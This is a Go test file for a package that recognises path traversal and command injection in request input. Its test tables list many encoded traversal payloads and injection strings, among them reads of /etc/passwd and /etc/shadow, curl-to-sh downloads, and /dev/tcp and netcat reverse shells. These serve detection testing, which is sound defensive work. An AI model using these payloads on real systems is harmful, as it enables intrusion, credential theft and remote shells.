package anomaly

import (
	"net/url"
	"strings"
	"testing"
)

func TestPathsThatClimb(t *testing.T) {
	for _, path := range []string{
		"../etc/passwd", "/../etc/passwd", "/a/../../etc/passwd", `..\windows\win.ini`, "/static/..;/..;/admin", "/a/./../../b",
		"%2e%2e/etc/passwd", "%2e%2e%2fetc", "..%2f..%2fetc", "%252e%252e%252fetc", "%25252e%25252e/x", "/a/%2e%2e/b", "/a/..%5c..%5cb", "/a/%2E./b",
		"..%c0%afetc", "%c0%ae%c0%ae/etc", "%u002e%u002e/x", "%uff0e%uff0e%u2215x", "%e0%80%ae%e0%80%ae/x", "..%00/x", "..", "/img/../../../x.png", "..%255c..%255cx",
	} {
		if !IsPathTraversal(path) {
			t.Errorf("%q is not seen", path)
		}
	}
}

func TestPathsThatDoNot(t *testing.T) {
	for _, path := range []string{
		"", "/", "/index.html", "/a/../b", "a/b/../../c", "/files/report..pdf", "/v1/...", "/a/..b/c", "/a/b..", "1..10", "Wait... what", "/search?q=%2e", "100%", "%", "%2", "%zz",
		"/a/%20b/c", "main..feature", "/compare/v1.0...v1.1", "/%7Euser/", "file:///C:/x", "https://example.com/a/../b",
	} {
		if IsPathTraversal(path) {
			t.Errorf("%q is taken for one", path)
		}
	}
}

func TestInputsThatRunCommands(t *testing.T) {
	for _, input := range []string{
		"127.0.0.1; cat /etc/passwd", "127.0.0.1;id", "x|whoami", "x && ls", "x || uname -a", "$(id)", "`whoami`", "a`id`b", "x\ncat /etc/shadow",
		"; c''at /etc/passwd", `; c\at /etc/passwd`, "; cat${IFS}/etc/passwd", ";cat$IFS/etc/passwd", ";{cat,/etc/passwd}", ";/bin/cat x", "; /???/c?t /etc/x", `;wh""oami`,
		"%3Bid", "%253B%2520cat%2520/etc/passwd", "x & ping -c 1 192.0.2.1", "x; sleep 5", "x | sleep 10", "a;wget http://192.0.2.1/x.sh", "a; curl -s http://x | sh", "& ipconfig", "&& dir C:\\", "| powershell -enc AAA=",
		"x; bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "job;nc -e /bin/sh 192.0.2.1 1", "<(cat /etc/passwd)", "; python3 -c 'x'", "x; echo $PATH", "$(sleep 5)", "`sleep 5`", "a|cat /etc/hosts|b", "a;ls;b", "a; CMD.EXE /c dir",
	} {
		if !IsCommandInjection(input) {
			t.Errorf("%q is not seen", input)
		}
	}
}

func TestInputsThatDoNot(t *testing.T) {
	for _, input := range []string{
		"", "Anna", "black; cat lovers", "R&D", "Passport & id", "bread | butter", "cats; dogs", "Tom & Jerry; more to come", "AT&T", "a < b > c", "x; y; z", "if (a) { b; }", "5 > 3; 2 < 4",
		"Q&A; find 3 bugs", "one; echo of the past", "the host; who else", "`code`", "price: $(5)", "a|b|c", "50% off; sleep well", "name=Anna&host=example", "cat", "please ping me", "id; name; mail", "line one\nfind out more\nthe end",
		"SELECT a; DROP", "<b>bold</b>", "&amp;", "&lt;id&gt;", "let x = `${name}`;", "a;b;c", "kill; or be killed", "100%;", "Sleep & rest", "net; gross", "2 | 4 | 8", "head & shoulders", "go; type well",
	} {
		if IsCommandInjection(input) {
			t.Errorf("%q is taken for one", input)
		}
	}
}

func TestOnlyTheBeginningIsRead(t *testing.T) {
	if long := strings.Repeat("a/", 1<<20) + "../"; IsPathTraversal(long) || IsCommandInjection(strings.Repeat("a", 1<<20)+";id") {
		t.Error("more than the first 8 KiB is read")
	}
}

// What is seen in plain is seen when it is escaped once and twice more.
func FuzzRecognisers(f *testing.F) {
	for _, s := range []string{"../x", "..%2f", "; cat /etc/passwd", "$(id)", "%u002e", "`a`", "%%%", ";c''at /"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 512 {
			return
		}
		twice := url.PathEscape(url.PathEscape(s))
		if !strings.Contains(s, "%") && IsPathTraversal(s) && !IsPathTraversal(twice) {
			t.Errorf("%q is seen, %q is not", s, twice)
		}
		if !strings.Contains(s, "%") && IsCommandInjection(s) && !IsCommandInjection(twice) {
			t.Errorf("%q is seen as a command, %q is not", s, twice)
		}
	})
}
